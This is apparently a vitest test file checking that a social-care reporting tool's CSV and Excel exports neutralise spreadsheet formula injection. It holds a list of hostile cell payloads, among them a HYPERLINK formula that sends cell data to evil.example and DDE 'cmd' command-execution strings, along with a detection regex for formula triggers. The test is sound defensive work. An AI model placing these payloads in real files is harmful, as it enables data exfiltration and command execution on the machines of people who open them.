// Formula injection (issue 8): every export that writes CSV or a workbook neutralises text a spreadsheet would
// run as a formula. Hostile values go into a small synthetic authority the way they would arrive — contacts
// whose child id, source, team and worker were typed as formulas, and an event file whose bad values are
// quoted back in findings — then each export is produced through its real path and the file read back: CSV
// with csv-parse, the workbook with exceljs. Each hostile value must come back with an apostrophe in front,
// and no text cell anywhere in the file may begin with a formula trigger (checked with this file's own
// pattern, not the one under test).
import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import ExcelJS from 'exceljs';
import { parse } from 'csv-parse/sync';
import type { FastifyInstance } from 'fastify';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { demoStore, type DemoStore } from './helpers/demoStore.ts';
import { buildApp } from '../src/server/app.ts';
import { Engine } from '../src/engine.ts';
import { judgedScorecard, type JudgedScorecard } from '../src/judge/scorecard.ts';
import { Targets } from '../src/judge/targets.ts';
import { writeExcelScorecard } from '../src/report/excel.ts';
import { childRowsTable, csv, scorecardCsv, tableOrCsv } from '../src/scorecardText.ts';
import { findIndicator } from '../src/indicators/index.ts';
import { monthOf } from '../src/periods.ts';
import { loadFile } from '../src/load.ts';
import { formulaSafe } from '../src/formulaSafe.ts';
import { signedIn, type Client } from './helpers/signIn.ts';
import { validate } from '../src/validate/run.ts';
import { writeCsvReport, writeXlsxReport } from '../src/validate/report.ts';
import { mkdirSync, readFileSync } from 'node:fs';

/** What a spreadsheet may run: = + - @, tab, CR (OWASP), their full-width forms, after any leading blanks. */
const RUNS = /^[\s\u00a0\u3000]*[=+\-@\t\r\n\uff1d\uff0b\uff0d\uff20]/;

const HOSTILE = [
  '=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0", '-2+3+cmd|x!A1', '@SUM(1+1)*cmd|x!A1',
  '\t=1+1', '\r=1+1', '\n=1+1', '  =1+1', '＝1+1', '＋1', '－1', '＠SUM(A1)',
];

let demo: DemoStore;
let app: FastifyInstance;
let client: Client;
let engine: Engine;
let judged: JudgedScorecard;
const dir = mkdtempSync(join(tmpdir(), 'csc-formula-'));

beforeAll(async () => {
  demo = await demoStore({ population: 1500, years: 2 });
  // one contact per hostile value, received in January 2025 (the month exported), the first few still awaiting a decision on 14 February
  for (const [i, v] of HOSTILE.entries()) {
    const q = v.replace(/'/g, "''");
    await demo.store.run(`INSERT INTO main.contacts (contact_id, child_id, received_at, source, decision_at, team, worker, load_id, source_file, source_row)
      VALUES ('hostile-${i}', '${q}', TIMESTAMP '2025-01-1${i % 9} 09:00:00', '${q}', NULL, '${q}', '${q}', 1, 'test', 1)`);
  }
  const events = join(dir, 'hostile-events.jsonl');
  writeFileSync(events, HOSTILE.map((v) => JSON.stringify({ type: 'visits', child_id: v, visit_date: v, visit_type: 'CIN' })).join('\n') + '\n');
  const loaded = await loadFile(demo.store, events, { user: 'test' });
  expect(loaded.findings.filter((f) => f.code === 'CSC102')).toHaveLength(HOSTILE.length);
  app = await buildApp({ store: demo.store, authority: 'Testshire' });
  client = await signedIn(app, demo.store, 'analyst');
  engine = new Engine(demo.store);
  judged = await judgedScorecard(engine, '2025-01', await Targets.load(demo.store));
}, 300_000);
afterAll(async () => {
  await app?.close();
  engine?.close();
  demo?.close();
  rmSync(dir, { recursive: true, force: true });
});

/** Every hostile value comes back neutralised, and no text cell in the file can run. */
function expectSafe(cells: unknown[], what: string, mustContain: readonly string[] = HOSTILE, norm = (s: string) => s): void {
  const text = cells.filter((c): c is string => typeof c === 'string');
  expect(text.filter((c) => RUNS.test(c)), `${what}: cells a spreadsheet would run`).toEqual([]);
  for (const v of mustContain) expect(text, `${what}: ${JSON.stringify(v)} neutralised`).toContain(norm(`'${v}`));
}
/** XML (and so a workbook read back) turns a carriage return into a line feed. */
const xmlLineEnds = (s: string): string => s.replace(/\r\n?/g, '\n');

const csvCells = (body: string): string[] => (parse(body.replace(/^\ufeff/, ''), { relax_column_count: true }) as string[][]).flat();

describe('formulaSafe', () => {
  it('puts an apostrophe before every trigger, leaves other text and non-text alone, and is idempotent', () => {
    for (const v of HOSTILE) expect(formulaSafe(v)).toBe(`'${v}`);
    for (const v of ['Team North', 'C-1', '0012', 'a=b', "'=already"]) expect(formulaSafe(v)).toBe(v);
    for (const v of HOSTILE) expect(formulaSafe(formulaSafe(v))).toBe(formulaSafe(v));
    expect(csv([[-3, 1.5, null, true, '-3']])).toBe("-3,1.5,,1,'-3\n");
  });
});

describe('every export, read back', () => {
  it('the list CSV download (lists.ts sendCsv)', async () => {
    const res = await client.inject({ url: '/lists/contacts_awaiting_decision.csv?at=2025-02-14T12:00' });
    expect(res.statusCode).toBe(200);
    expectSafe(csvCells(res.body), 'list CSV');
  });

  it("an indicator's children CSV download", async () => {
    const res = await client.inject({ url: '/indicator/front_door.contacts_received/children.csv?month=2025-01&period=2025-01' });
    expect(res.statusCode).toBe(200);
    expectSafe(csvCells(res.body), 'children CSV');
  });

  it('the findings CSV download, which quotes values from the file', async () => {
    const res = await client.inject({ url: '/data/findings.csv?code=CSC102' });
    expect(res.statusCode).toBe(200);
    const table = parse(res.body, { columns: true }) as Record<string, string>[];
    expect(table.map((r) => r.value).sort()).toEqual(HOSTILE.map((v) => `'${v}`).sort());
    expectSafe(csvCells(res.body), 'findings CSV');
  });

  it('the CLI CSVs: csc indicator --children --csv and csc scorecard --csv', async () => {
    const ind = findIndicator('front_door.contacts_received')!;
    const rows = await engine.rows(ind, monthOf('2025-01-01'));
    expectSafe(csvCells(tableOrCsv(childRowsTable(ind, rows), true)), 'csc indicator --children --csv');
    expectSafe(csvCells(scorecardCsv(judged.lines)), 'csc scorecard --csv', []);
  });

  it('the validation report (csc validate --out FILE.csv / FILE.xlsx), which quotes values and ids from the files', async () => {
    const year = join(dir, 'validate', '2024-25');
    mkdirSync(year, { recursive: true });
    const head = 'CHILD,DECOM,RNE,LS,CIN,PLACE,PLACE_PROVIDER,DEC,REC,REASON_PLACE_CHANGE,HOME_POST,PL_POST,URN';
    const rows = HOSTILE.map((v) => [v, '01/05/2024', v, 'C2', 'N1', 'U4', 'PR1', '', '', '', 'AB1 2CD', 'AB3 4EF', 'SC123456']);
    writeFileSync(join(year, 'episodes.csv'), csv([head.split(','), ...rows]).replace(/^'/gm, '')); // the file as typed, not neutralised
    const result = await validate([join(year, 'episodes.csv')], { ruleset: 'lac2024_25' });
    const [byChild, byRule] = writeCsvReport(result, join(dir, 'report.csv'));
    expectSafe([...csvCells(readFileSync(byChild, 'utf8')), ...csvCells(readFileSync(byRule, 'utf8'))], 'validation CSV report', HOSTILE.filter((v) => !/^\s|^[\t\r\n]/.test(v)));
    await writeXlsxReport(result, join(dir, 'report.xlsx'));
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(join(dir, 'report.xlsx'));
    const cells: unknown[] = [];
    for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => { cells.push(c.value); }));
    expectSafe(cells, 'validation xlsx report', []);
  });

  it('the Excel scorecard, internal (child sheets), with a hostile authority name too', async () => {
    const path = join(dir, 'internal.xlsx');
    await writeExcelScorecard(path, judged, engine, { authority: '=Testshire', internal: true });
    const cells = async (p: string): Promise<unknown[]> => {
      const wb = new ExcelJS.Workbook();
      await wb.xlsx.readFile(p);
      const out: unknown[] = [];
      for (const ws of wb.worksheets) ws.eachRow((row) => row.eachCell((c) => { out.push(c.value); expect(c.formula).toBeUndefined(); }));
      return out;
    };
    expectSafe(await cells(path), 'internal workbook', [...HOSTILE, '=Testshire: scorecard for January 2025'], xmlLineEnds);
  });
});
